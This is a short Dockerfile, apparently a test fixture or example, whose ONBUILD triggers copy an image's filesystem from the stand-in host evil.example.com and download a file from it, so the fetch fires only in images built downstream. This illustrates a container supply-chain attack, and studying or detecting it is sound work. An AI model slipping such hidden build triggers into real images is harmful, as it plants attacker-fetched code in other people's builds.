FROM registry.example.com/onbuild-base:1 AS tools
# Triggers of this Dockerfile run in images built on the result, not here.
ONBUILD COPY --from=evil.example.com/x:1 / /
ONBUILD ADD https://evil.example.com/x /x
FROM tools
